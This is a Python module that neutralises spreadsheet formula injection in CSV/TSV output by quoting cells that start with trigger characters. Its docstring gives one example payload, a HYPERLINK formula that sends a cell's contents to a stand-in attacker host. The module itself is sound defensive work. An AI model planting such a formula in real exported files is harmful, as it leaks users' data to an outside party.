"""Spreadsheet formula injection ("CSV injection", OWASP): a CSV or TSV cell that begins with
=, +, -, @, a tab or a carriage return is run as a formula when the file is opened in Excel,
LibreOffice or Google Sheets (`=HYPERLINK("http://evil.example/?leak="&A2,"Click me")`).

Following OWASP's guidance, such a cell is written with a single quote in front (`'=HYPERLINK(...`),
which spreadsheets show as text; a plain number (`-5`, `+3.5`, `-1e3`) stays as it is. Which cells:
`--escape-formulas results` (the default) the cells that come from the API, `all` the input's cells
too, `none` nothing. JSON lines output is never altered.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Sequence
from enum import StrEnum


class EscapeFormulas(StrEnum):
    ALL = "all"
    RESULTS = "results"
    NONE = "none"


# the ASCII triggers, and their full-width forms, which some spreadsheets read the same way
TRIGGERS = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def neutralised(cell: str) -> str:
    """The cell as a spreadsheet shows it as text."""
    if cell and cell[0] in TRIGGERS and _PLAIN_NUMBER.fullmatch(cell) is None:
        return "'" + cell
    return cell


def escaped_columns(
    policy: EscapeFormulas, columns: Sequence[str], results: Iterable[str] | None = None
) -> frozenset[str]:
    """The columns whose cells are neutralised: `results` names the columns that come from the
    API (None: all of them do, as in `jobs results`)."""
    if policy is EscapeFormulas.NONE:
        return frozenset()
    if policy is EscapeFormulas.ALL or results is None:
        return frozenset(columns)
    return frozenset(results) & frozenset(columns)
